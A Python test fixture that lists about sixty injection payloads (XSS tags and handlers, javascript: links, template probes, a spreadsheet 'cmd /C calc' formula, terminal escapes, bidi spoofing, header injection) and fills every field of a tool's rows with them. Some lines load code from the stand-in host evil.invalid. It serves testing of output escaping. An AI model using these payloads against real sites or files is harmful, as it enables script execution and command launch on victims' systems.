"""Sixty hostile texts, as somebody may put them into a name or a tag, and rows full of them."""

from __future__ import annotations

import datetime as dt
import types
from collections.abc import Iterator
from typing import Any, Literal, Union, get_args, get_origin

import msgspec

from wa_kit.evidence import COLLECTORS
from wa_kit.model import Attestation, Row

RUN = "window.ran=1"
FAR = "http://evil.invalid/"
PAYLOADS = (
    # Elements
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}a.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</table></td></tr><script>{RUN}</script>",
    f"</details></main></body></html><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={FAR}pixel.gif>",
    f"<image href={FAR}i onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></table><img src=x onerror={RUN}>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={FAR}o></object>",
    f"<embed src={FAR}e>",
    f"<link rel=stylesheet href={FAR}s.css>",
    f"<style>@import '{FAR}s.css';</style>",
    f"<base href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<form action={FAR}><input autofocus onfocus={RUN}></form>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src={FAR}a autoplay></audio>",
    f"<marquee onstart={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    # Attributes and comments
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover={RUN} x="',
    f"' autofocus onfocus={RUN} tabindex=1 x='",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>",
    "`onerror=window.ran=1`",
    # Addresses
    f"<a href=javascript:{RUN}>press</a>",
    f"<a href='&#106;avascript:{RUN}'>press</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"[press](javascript:{RUN})",
    f"![picture]({FAR}m.png)",
    f"<{FAR}auto>",
    # Templates, formulas, mathematics, markup of other kinds
    "{{7*7}}{% for x in [1] %}{{x}}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    f"=HYPERLINK(\"{FAR}\",\"press\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(\\unicode{{x}}\\)",
    f"<b>bold</b><br><a href='{FAR}'>plotly</a>",
    "[bold red]rich[/] [link=http://evil.invalid]x[/link]",
    # What cannot be seen
    "left\u202egnp.exe\u2066hidden\u2069",
    "bell\u0007 escape\x1b[31m\x1b]8;;http://evil.invalid\x07 null\x00",
    "zero\u200bwidth\ufeffmarks \U000e0041\U000e0042",
    "line\u2028line\u2029line\r\nSet-Cookie: a=b",
    "\ud800 lone, \ufffe none, " + "W" * 300,
)  # fmt: skip


def hostile_rows(account: str, regions: tuple[str, ...]) -> Iterator[Row]:
    """Rows of every type, each text in each of them hostile, and every payload somewhere."""
    kinds = [*COLLECTORS, Attestation]
    for place, payload in enumerate(PAYLOADS):
        text = payload.encode("utf-8", "replace").decode()  # as it comes back from a file
        for kind in kinds[place % len(kinds) :: 15]:
            yield kind(**_fields(kind, text, f"arn:aws:x:{regions[0]}:{account}:{place}/{text}"))


def _fields(kind: type[Row], text: str, arn: str) -> dict[str, Any]:
    made = {f.name: _value(f.type, text) for f in msgspec.structs.fields(kind)}
    account, region = arn.split(":")[4], arn.split(":")[3]
    return made | {"arn": arn, "account": account, "region": region, "name": text}


def _value(kind: Any, text: str) -> Any:
    """A value of a type, hostile wherever the type leaves room for it."""
    origin, inside = get_origin(kind), get_args(kind)
    if origin in (Union, types.UnionType):
        return _value(inside[0], text)
    if origin is Literal:
        return inside[0]
    if origin is dict:
        return {text: _value(inside[1], text)}
    if origin in (list, tuple):
        return origin([_value(inside[0], text)])
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
        return kind(**{f.name: _value(f.type, text) for f in msgspec.structs.fields(kind)})
    plain = {
        bool: False,
        int: 1,
        float: 1.0,
        dt.datetime: dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        dt.date: dt.date(2026, 1, 1),
    }
    return plain.get(kind, text)
